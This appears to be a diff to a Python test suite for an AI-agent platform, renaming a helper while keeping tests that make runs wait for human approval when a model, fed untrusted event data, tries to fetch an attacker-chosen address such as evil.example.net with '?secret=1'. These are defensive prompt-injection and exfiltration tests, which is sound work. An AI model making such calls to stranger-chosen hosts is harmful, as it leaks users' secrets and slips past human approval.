@@ -158,7 +158,7 @@ def reader(*turns: Any, instructions: str = "Read what you need.") -> tuple[LlmA
     return llm, read
 
 
-def asked(lab: Lab, llm: Any, prompt: str = "Work on it.", data: Any = EVIL) -> Run:
+def run_on_event(lab: Lab, llm: Any, prompt: str = "Work on it.", data: Any = EVIL) -> Run:
     sender = Source.objects.filter(slug="shop").first() or source()
     return woken_by(lab, make_event(source_id=sender.pk, data=data), lambda run: str(run.llm(llm, prompt).output))
 
@@ -167,7 +167,7 @@ def asked(lab: Lab, llm: Any, prompt: str = "Work on it.", data: Any = EVIL) -> 
 def test_a_reading_call_to_an_address_that_a_stranger_may_have_chosen_needs_approval(lab: Lab) -> None:
     llm, read = reader([("fetch", {"url": "https://evil.example.net/?secret=1"})], "done")
 
-    run = asked(lab, llm)
+    run = run_on_event(lab, llm)
 
     assert (run.status, read) == ("waiting", [])
     assert "'evil.example.net' stands in no text" in Approval.objects.get(wait__run=run).detail
@@ -188,7 +188,7 @@ def test_a_reading_call_to_an_address_that_a_stranger_may_have_chosen_needs_appr
 def test_an_address_counts_in_an_object_with_blanks_and_at_any_length(lab: Lab, call: Any) -> None:
     llm, read = reader([call], "done")
 
-    run = asked(lab, llm)
+    run = run_on_event(lab, llm)
 
     assert (run.status, read) == ("waiting", [])
 
@@ -209,7 +209,7 @@ def test_an_untrusted_result_stays_untrusted_where_a_model_uses_the_id_of_a_call
     def letter() -> str:
         return f"Go to {URL}"
 
-    run = asked(lab, llm)
+    run = run_on_event(lab, llm)
 
     assert (run.status, read) == ("waiting", [])
 
@@ -222,7 +222,7 @@ def test_an_address_that_the_author_or_a_trusted_tool_has_named_needs_no_approva
     turns: list[Any] = [[("shop_of", {"customer": 7})], calls] if where == "trusted tool" else [calls]
     llm, read = reader(*turns, "done", **({"instructions": text} if where == "instructions" else {}))
 
-    run = asked(lab, llm, text if where == "prompt" else "Work on it.")
+    run = run_on_event(lab, llm, text if where == "prompt" else "Work on it.")
 
     assert (run.status, read) == ("succeeded", ["https://shop.example.com/orders/7"])
 
@@ -232,7 +232,7 @@ def test_an_address_that_the_author_or_a_trusted_tool_has_named_needs_no_approva
 def test_an_address_that_came_into_the_prompt_with_the_data_is_still_a_strangers(lab: Lab, written: Any) -> None:
     llm, read = reader([("fetch", {"url": "https://evil.example.net/x"})], "done")
 
-    run = asked(lab, llm, f"Work on this: {written(EVIL['text'])}")
+    run = run_on_event(lab, llm, f"Work on this: {written(EVIL['text'])}")
 
     assert (run.status, read) == ("waiting", [])
 
@@ -256,7 +256,7 @@ def test_an_address_in_a_models_summary_of_untrusted_data_needs_approval(lab: La
 def test_data_of_the_event_in_the_instructions_is_no_word_of_the_author(lab: Lab) -> None:
     llm, read = reader([("fetch", {"url": URL})], "done", instructions=f"The customer wrote: {EVIL['text']}")
 
-    assert (asked(lab, llm).status, read) == ("waiting", [])
+    assert (run_on_event(lab, llm).status, read) == ("waiting", [])
 
 
 SERVER = f"""
@@ -295,10 +295,10 @@ def test_the_hosts_that_a_tool_allows_are_its_authors_words(lab: Lab) -> None:
     tool = http_tool(allow=["*.example.org", "127.0.0.1:9"], allow_networks=["127.0.0.0/8"], name="get")
     llm = LlmAgent(Turns([("get", {"url": "http://127.0.0.1:9/"})], "done").model, name="reader", tools=[tool])
 
-    assert asked(lab, llm).status == "succeeded"  # it was called, and could not connect
+    assert run_on_event(lab, llm).status == "succeeded"  # it was called, and could not connect
 
     llm = LlmAgent(Turns([("get", {"url": "https://a.example.net/"})], "done").model, name="reader", tools=[tool])
-    assert asked(lab, llm).status == "waiting"
+    assert run_on_event(lab, llm).status == "waiting"
 
 
 @pytest.mark.parametrize(
